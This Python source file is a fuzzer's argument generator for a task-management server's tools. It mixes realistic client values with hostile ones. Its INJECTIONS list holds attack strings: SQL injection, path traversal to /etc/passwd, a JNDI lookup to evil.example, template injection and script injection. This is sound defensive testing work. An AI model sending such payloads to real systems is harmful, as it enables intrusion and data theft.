"""Arguments for the fuzzer: drawn from each tool's published input schema, from values a real
client would send, and from hostile ones, field by field.

Values that depend on the server's state at the time of the call (a real task id, a cursor the
server issued) or that are too large to keep in a plan of thousands of calls are drawn as
markers (`TaskIdOf`, `CursorOf`, `Huge`) and turned into values just before the call."""

from __future__ import annotations

import base64
import datetime as dt
import functools
import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st
from hypothesis_jsonschema import from_schema

Json = Any


@dataclass(frozen=True, slots=True)
class TaskIdOf:
    """The id of one of the tasks of `owner` (`self`: the caller, `other`: the other user,
    `nobody`: an id no task has), the `pick`-th cyclically, as the server gave it."""

    owner: str
    pick: int
    kind: str = "any"  # or `recurring`, `reminded`: one of the tasks added with those


@dataclass(frozen=True, slots=True)
class CursorOf:
    """A `next_cursor` the server issued to `listing`, passed back as is or `forged`:
    `edit:<key>` sets one field to `value`, `drop:<key>` removes one, `other-listing` is another
    listing's cursor, `other-user` the other user's cursor of this listing."""

    listing: str
    forged: str | None = None
    value: Json = None


@dataclass(frozen=True, slots=True)
class Huge:
    """A value of `size` units: `text` characters, `list` items, `exdates` EXDATE values,
    `reminders` distinct valid durations, `tags` distinct valid tags, `items` valid new tasks
    (a batch), `ids` distinct task ids."""

    kind: str
    size: int


SURROGATES = ["\ud800", "x\udfff", "\udc00abc", "\ud83d"]
INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE tasks; --",
    '"); DELETE FROM outbox; --',
    "%' OR 1=1 --",
    "_%",
    "\\",
    '{"$ne": null}',
    "$.tasks[*]",
    "../../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "%s%s%s%n",
    "\r\nX-Injected: 1",
    "\u202egnp.exe",
    "null",
    "NaN",
]
TEXTS = ["", " ", "\t\n", "\x00", "a\x00b", "\x01\x1f\x7f", "😀" * 10, "İ", "ß", *SURROGATES]
WRONG_TYPES: list[Json] = [
    None,
    True,
    False,
    0,
    -1,
    1.5,
    -0.0,
    2**31,
    2**63,
    -(2**63) - 1,
    10**30,
    1e308,
    [],
    [None],
    [1, "a"],
    {},
    {"a": 1},
    [[[[[[[[[[[]]]]]]]]]]],
]
MOMENTS = [
    "0001-01-01",
    "0001-01-01T00:00:00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31",
    "9999-12-31T23:59:59",
    "9999-12-31T23:59:59+14:00",
    "9999-12-31T23:59:59-14:00",
    "9999-12-31T23:59:59+00:00",
    "1899-12-31T23:00:00Z",
    "1900-01-01T00:00:00+14:00",
    "2999-12-31T23:59:59-14:00",
    "3000-01-01",
    "2026-02-30",
    "2026-13-01",
    "2026-12-01T25:00",
    "2026-12-01T09:00+99:00",
    "2026-12-01T09:00:00.123456789Z",
    "+002026-12-01",
    "2026-W49-1",
    "20261201T090000Z",
    "2026-12-01 09:00",
    "2026-03-29T02:30",  # in Berlin's DST gap
    "2026-10-25T02:30",  # ambiguous in Berlin
    "in 99999999999 days",
    "in -3 days",
    "next friday at 25pm",
    "friday",
    "at 5",
    "midnight",
    "yesterday",
]
DURATIONS = [
    "PT99999999999H",
    "P2147483648D",
    "PT9223372036854775807S",
    "P99999999999W",
    "P3661D",
    "P366D",
    "P367D",
    "P1M",
    "P1Y",
    "P1Y2M3DT4H5M6S",
    "PT0S",
    "P0D",
    "-PT1H",
    "PT-1H",
    "P",
    "PT",
    "P1DT",
    "P0.5D",
    "PT1.5H",
    "PT1,5H",
    "pt1h",
    "1h",
    "P1W2D",
    "PT" + "9" * 400 + "S",
]
RULES = [
    "FREQ=SECONDLY",
    "FREQ=MINUTELY;INTERVAL=1",
    "FREQ=HOURLY;BYWEEKNO=1;BYMONTH=6",
    "FREQ=YEARLY;BYWEEKNO=1;BYMONTH=6",
    "FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30",
    "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30",
    "FREQ=HOURLY;BYMONTH=2;BYMONTHDAY=31;BYHOUR=25",
    "FREQ=YEARLY;BYYEARDAY=366;BYMONTH=2",
    "FREQ=DAILY;UNTIL=99991231T235959Z",
    "FREQ=DAILY;UNTIL=29991231T235959Z",
    "FREQ=DAILY;UNTIL=00010101T000000Z",
    "FREQ=HOURLY;UNTIL=29991231T000000Z",
    "FREQ=MONTHLY;BYDAY=-99FR",
    "FREQ=MONTHLY;BYDAY=99FR",
    "FREQ=YEARLY;BYDAY=-53MO",
    "FREQ=WEEKLY;BYDAY=XX",
    "FREQ=DAILY;INTERVAL=0",
    "FREQ=DAILY;INTERVAL=-1",
    "FREQ=DAILY;INTERVAL=99999999999999999999",
    "FREQ=DAILY;COUNT=0",
    "FREQ=DAILY;COUNT=99999999999999999999",
    "FREQ=DAILY;BYSETPOS=0",
    "FREQ=MONTHLY;BYSETPOS=-367;BYDAY=MO",
    "FREQ=MONTHLY;BYMONTHDAY=0",
    "FREQ=MONTHLY;BYMONTHDAY=32",
    "FREQ=DAILY;BYHOUR=0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23",
    "FREQ=HOURLY;BYMINUTE=0,15,30,45;BYSECOND=0,30",
    "FREQ=DAILY;COUNT=3;UNTIL=20261231T000000Z",
    "FREQ=DAILY;FREQ=WEEKLY",
    "FREQ=DAILY;;;;",
    "FREQ=DAILY;X-CUSTOM=1",
    "FREQ=WEEKLY;WKST=XX",
    "RRULE:FREQ=DAILY\nRRULE:FREQ=WEEKLY",
    "RRULE:FREQ=DAILY\nRDATE:20261224T090000",
    "RRULE:FREQ=DAILY\nEXRULE:FREQ=WEEKLY",
    "RRULE:FREQ=DAILY\nDTSTART:20261201T090000",
    "RRULE:FREQ=DAILY\nEXDATE;TZID=Europe/Berlin:20261224T090000",
    "RRULE:FREQ=DAILY\nEXDATE:notadate",
    "RRULE:FREQ=DAILY;COUNT=2\nEXDATE:20261201T090000,20261202T090000",
    "every 0 days",
    "every 99999999999 days",
    "every second monday",
    "biweekly",
    "every day at 9am",
    "monthly on the 31st",
]
ZONES = [
    "Etc/GMT+12",
    "Etc/GMT-14",
    "Pacific/Kiritimati",
    "America/St_Johns",
    "Nope/Zone",
    "../../../etc/passwd",
    "/etc/localtime",
    "localtime",
    "posixrules",
    "Factory",
    "EST5EDT",
    "utc",
    "Europe/Berlin ",
]
SORT_KEYS = ["due", "priority", "created", "updated", "title", "urgency"]
# the listings a cursor comes from: list_tasks in creation order, list_tasks sorted, history
LISTING_KINDS = ["list_tasks", "sorted", "task_history"]
# the fields of a batch item, by tool: the arguments of the single form
ITEM_FIELDS = {
    "add_task": ["title", "due", "priority", "tags", "reminders", "recurrence", "idempotency_key"],
    "update_task": [
        "task_id",
        "title",
        "due",
        "priority",
        "tags",
        "recurrence",
        "expected_version",
    ],
}
ITEM_REQUIRED = {"add_task": "title", "update_task": "task_id"}
CURSOR_FORGERIES: list[Json] = [
    "a string",
    1.5,
    True,
    None,
    ["list"],
    {"an": "object"},
    "2026-11-23T10:00:00",
    "2026-11-23T10:00:00+99:00",
    "0001-01-01T00:00:00+00:00",
    "9999-12-31T23:59:59+00:00",
    10**30,
    -5,
    0,
    "x\x00y",
    "\ud800",
]

# the fields the tools share, by what they hold
KIND_OF_FIELD = {
    "title": "text",
    "description": "text",
    "query": "text",
    "idempotency_key": "key",
    "due": "moment",
    "due_before": "moment",
    "due_after": "moment",
    "since": "moment",
    "until": "moment",
    "timezone": "zone",
    "priority": "priority",
    "tags": "tags",
    "any_tags": "tags",
    "reminders": "reminders",
    "recurrence": "rule",
    "recurrence_anchor": "anchor",
    "within": "duration",
    "duration": "duration",
    "task_id": "task_id",
    "cursor": "cursor",
    "sort": "sort",
    "completed_before": "moment",
    "completed_after": "moment",
    "task_ids": "task_ids",
    "status": "status",
    "overdue": "flag",
    "expected_version": "version",
    "count": "number",
    "limit": "number",
}

_ISO_DAY = st.dates(dt.date(2025, 1, 1), dt.date(2028, 12, 31)).map(dt.date.isoformat)
_ISO_LOCAL = st.builds(
    "{}T{:02d}:{:02d}".format, _ISO_DAY, st.integers(0, 23), st.sampled_from([0, 15, 30, 45])
)
_ISO_OFFSET = st.builds(
    "{}{}".format, _ISO_LOCAL, st.sampled_from(["Z", "+01:00", "-05:00", "+05:45", "+14:00"])
)
_PHRASES = st.sampled_from(
    ["today", "tomorrow", "tomorrow 5pm", "next friday", "in 3 days", "monday 9am", "in 2 weeks"]
)
_DURATIONS = st.sampled_from(["PT15M", "PT1H", "P1D", "P2W", "PT30M", "P7D", "P30D", "PT90S"])
_RULES = st.sampled_from(
    [
        "FREQ=DAILY",
        "FREQ=DAILY;COUNT=3",
        "FREQ=WEEKLY;BYDAY=MO,WE",
        "FREQ=MONTHLY;BYMONTHDAY=-1",
        "FREQ=MONTHLY;BYDAY=2TU",
        "FREQ=YEARLY;BYMONTH=3;BYMONTHDAY=3",
        "FREQ=HOURLY;INTERVAL=6;COUNT=10",
        "FREQ=DAILY;UNTIL=20270101T000000Z",
        "RRULE:FREQ=DAILY\nEXDATE:20261224T090000",
        "every weekday",
        "every 2 weeks on monday and wednesday",
        "last day of every month",
        "every 3 days",
    ]
)
_TAG = st.sampled_from(["home", "work", "Errands", "urgent", "x", "deep-work", "ü", "a" * 64])


@functools.cache
def plausible(kind: str) -> st.SearchStrategy[Json]:
    """What a well-behaved client sends in a field of `kind`."""
    match kind:
        case "text":
            return st.text(min_size=1, max_size=40)
        case "key":
            return st.sampled_from(["retry-1", "retry-2", "k"]) | st.uuids().map(str)
        case "moment":
            return _ISO_DAY | _ISO_LOCAL | _ISO_OFFSET | _PHRASES
        case "zone":
            return st.sampled_from(["Europe/Berlin", "UTC", "America/New_York", "Asia/Kolkata"])
        case "priority":
            return st.sampled_from(["none", "low", "medium", "high", "urgent"])
        case "tags":
            return st.lists(_TAG, max_size=4)
        case "reminders":
            return st.lists(_DURATIONS | _ISO_OFFSET, max_size=3)
        case "rule":
            return _RULES
        case "anchor":
            return st.sampled_from(["schedule", "completion"])
        case "duration":
            return _DURATIONS
        case "task_id":
            kinds = st.sampled_from(["any", "recurring", "reminded"])
            return st.builds(TaskIdOf, st.just("self"), st.integers(0, 1000), kinds)
        case "task_ids":
            return st.lists(plausible("task_id"), min_size=1, max_size=5)
        case "cursor":
            return st.sampled_from(LISTING_KINDS).map(CursorOf)
        case "sort":
            key = st.sampled_from(SORT_KEYS)
            return st.lists(
                key | st.builds("{}:{}".format, key, st.sampled_from(["asc", "desc"])),
                min_size=1,
                max_size=3,
            )
        case "status":
            return st.sampled_from(["open", "completed", "deleted", "all"])
        case "flag":
            return st.booleans()
        case "version":
            return st.integers(0, 12)
        case _:
            return st.integers(1, 50)


@functools.cache
def hostile(kind: str) -> st.SearchStrategy[Json]:
    """What an attacker or a broken client sends in a field of `kind`."""
    anything = (
        st.sampled_from(WRONG_TYPES)
        | st.sampled_from(TEXTS)
        | st.sampled_from(INJECTIONS)
        | st.builds(Huge, st.just("text"), st.sampled_from([201, 501, 10_001, 100_000, 1_000_000]))
    )
    special: st.SearchStrategy[Json]
    match kind:
        case "moment":
            special = st.sampled_from(MOMENTS)
        case "duration":
            special = st.sampled_from(DURATIONS)
        case "rule":
            special = st.sampled_from(RULES) | st.builds(
                Huge, st.just("exdates"), st.sampled_from([1_000, 5_000, 20_000])
            )
        case "zone":
            special = st.sampled_from(ZONES)
        case "tags" | "reminders":
            item = (
                st.sampled_from(TEXTS + INJECTIONS + MOMENTS + DURATIONS)
                | st.sampled_from(WRONG_TYPES)
                | st.builds(Huge, st.just("text"), st.just(65))
            )
            special = st.lists(item, min_size=1, max_size=4) | st.builds(
                Huge,
                st.sampled_from(["list", kind]),
                st.sampled_from([51, 200, 1_000, 100_000]),
            )
        case "task_id":
            special = st.builds(
                TaskIdOf, st.sampled_from(["other", "nobody"]), st.integers(0, 1000)
            )
        case "cursor":
            special = st.builds(
                CursorOf,
                st.sampled_from(LISTING_KINDS),
                st.sampled_from(["edit:c", "edit:i", "edit:f", "edit:o", "edit:t", "edit:k"])
                | st.sampled_from(
                    ["drop:f", "drop:k", "edit:extra", "other-listing", "other-user"]
                ),
                st.sampled_from(CURSOR_FORGERIES),
            ) | st.binary(max_size=64).map(lambda b: base64.urlsafe_b64encode(b).decode())
        case "sort":
            special = (
                st.lists(
                    st.sampled_from(
                        [*SORT_KEYS, "due:up", "DUE", "due:asc:desc", "", "id", "-due"]
                    ),
                    max_size=8,
                )
                | st.sampled_from(["due", "urgency"])
                | st.builds(Huge, st.just("list"), st.just(100_000))
            )
        case "task_ids":
            special = st.lists(
                hostile("task_id") | plausible("task_id"), min_size=0, max_size=4
            ) | st.builds(Huge, st.just("ids"), st.sampled_from([101, 1_000]))
        case "priority":
            special = st.sampled_from(["critical", "HIGH", 1, 9, 0, ["high", "bogus"]])
        case "version" | "number":
            special = st.sampled_from([0, -1, 201, 101, 2**31, 2**63, 10**30, -(10**30), 1.0, 1.5])
        case _:
            special = st.nothing()
    return special | anything


_schemas: dict[str, st.SearchStrategy[Json]] = {}


def from_published(schema: Mapping[str, Any]) -> st.SearchStrategy[Json]:
    """Any value a field's published input `schema` allows."""
    key = json.dumps(schema, sort_keys=True)
    if key not in _schemas:
        _schemas[key] = from_schema(dict(schema))
    return _schemas[key]


@st.composite
def batch_item(draw: st.DrawFn, tool: str, faulty: bool) -> Json:
    """One item of a batch of `tool`: its single form's arguments, plausible; with `faulty`, one
    field hostile, a field the item lacks, its required field left out, or no object at all."""
    fields = ITEM_FIELDS[tool]
    required = ITEM_REQUIRED[tool]
    names = [n for n in fields if n == required or draw(st.integers(0, 3)) == 0]
    item = {name: draw(plausible(KIND_OF_FIELD[name])) for name in names}
    if faulty:
        fault = draw(st.sampled_from(["field", "field", "unknown", "missing", "not-an-object"]))
        if fault == "field":
            name = draw(st.sampled_from(names))
            item[name] = draw(hostile(KIND_OF_FIELD[name]))
        elif fault == "unknown":
            item[draw(st.sampled_from(["colour", "user_id", "", "\x00", "Title"]))] = 1
        elif fault == "missing":
            item.pop(required, None)
        else:
            return draw(st.sampled_from(WRONG_TYPES) | st.sampled_from(TEXTS))
    return item


def batch(tool: str, hostile_batch: bool) -> st.SearchStrategy[Json]:
    """The `tasks` of a batch call of `tool`: a few plausible items, or (hostile) one faulty
    item among them, none, 101, or a huge number."""
    clean = st.lists(batch_item(tool, False), min_size=1, max_size=4)
    if not hostile_batch:
        return clean
    one_faulty = st.builds(
        lambda items, bad, at: [*items[:at], bad, *items[at:]],
        st.lists(batch_item(tool, False), max_size=3),
        batch_item(tool, True),
        st.integers(0, 3),
    )
    sizes = st.builds(
        Huge, st.just("items" if tool == "add_task" else "list"), st.sampled_from([101, 2_000])
    )
    return one_faulty | sizes | st.just([]) | st.sampled_from(WRONG_TYPES[:3])


@st.composite
def arguments_for(draw: st.DrawFn, tool: str, schema: Mapping[str, Any]) -> dict[str, Json]:
    """A call's arguments. Most calls are clean (every field plausible) or carry one fault (one
    field from the schema or hostile), so a refusal names what it refused; the rest draw each
    field's source at random. Now and then a required field is left out or an unknown one added.
    """
    properties: Mapping[str, Mapping[str, Any]] = schema.get("properties", {})
    required = set(schema.get("required", ()))
    names = [n for n in properties if n in required or draw(st.integers(0, 2)) == 0]
    mode = draw(st.sampled_from(["clean", "clean", "one", "one", "wild"]))
    faulty = draw(st.sampled_from(names)) if names and mode == "one" else None
    arguments: dict[str, Json] = {}
    many = next((name for name in ("tasks", "task_ids") if name in properties), None)
    one = "title" if tool == "add_task" else "task_id"
    if many is not None and draw(st.integers(0, 3)) == 0:
        # a batch: its items carry the fields, so (nearly always) nothing goes beside it
        names = [many] if draw(st.integers(0, 9)) else [one, many]
    elif many is not None:
        names = [one, *(name for name in names if name not in (one, many))]
    if many == "tasks" and "tasks" in names:
        for name in names:
            if name == "tasks":
                arguments[name] = draw(batch(tool, mode != "clean"))
            else:
                arguments[name] = draw(plausible(KIND_OF_FIELD.get(name, "text")))
        return arguments
    faulty = draw(st.sampled_from(names)) if names and mode == "one" else None
    for name in names:
        kind = KIND_OF_FIELD.get(name, "text")
        if mode == "wild":
            source = draw(st.sampled_from(["plausible", "schema", "hostile"]))
        elif name == faulty:
            source = draw(st.sampled_from(["schema", "hostile", "hostile"]))
        else:
            source = "plausible"
        if source == "plausible":
            arguments[name] = draw(plausible(kind))
        elif source == "schema":
            arguments[name] = draw(from_published(properties[name]))
        else:
            arguments[name] = draw(hostile(kind))
    odd = draw(st.integers(0, 29))
    if odd == 0 and required:
        arguments.pop(draw(st.sampled_from(sorted(required))), None)
    elif odd == 1:
        arguments[draw(st.sampled_from(["colour", "user_id", "__proto__", "Title", ""]))] = 1
    return arguments
